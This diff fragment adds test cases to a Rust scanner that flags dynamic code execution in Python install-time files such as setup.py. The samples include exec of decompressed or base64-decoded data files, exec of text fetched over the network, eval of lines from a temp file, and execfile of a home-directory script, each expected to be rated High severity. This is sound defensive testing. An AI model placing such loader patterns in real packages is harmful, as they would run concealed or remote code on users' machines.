+                "Path('pkg/_v.py').write_text(zlib.decompress(P).decode())\nexec(Path('pkg/_v.py').read_text(), ns)\n",
+            ),
+            (
+                "a decoder between the read and the exec",
+                "exec(compile(zlib.decompress(open('pkg/data.bin', 'rb').read()), 'x', 'exec'))\n",
+            ),
+            ("python 2 exec statement of a fetch", "exec urllib2.urlopen(U).read() in ns\n"),
+            ("eval of a split line of a file in the temp dir", "for line in open('/tmp/x.txt'):\n    eval(line.split('=')[1])\n"),
+            (
+                "a lambda helper that decodes what it reads",
+                "load = lambda p: base64.b64decode(open(p).read())\nexec(load('pkg/data.bin'))\n",
+            ),
+            (
+                "the chosen line of a helper's fetch",
+                "def read(u):\n    return urlopen(u).read().decode()\n\nv = [l for l in read(U).split('\\n') if 'X' in l][0]\nexec(v)\n",
+            ),
+            ("execfile of a file in home", "execfile(os.path.expanduser('~/.pkgrc.py'))\n"),
+        ];
+        for (name, text) in malicious {
+            let got = scan(&DynamicCode, "setup.py", FileRole::InstallTime, text);
+            if !got.iter().any(|g| g.severity >= Severity::High) {
+                wrong.push(format!("malicious {name:?} is served: {got:?}"));
+            }
+        }
+        assert!(benign.len() >= 25 && malicious.len() >= 10, "the table covers the spellings");
+        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
     }
 }
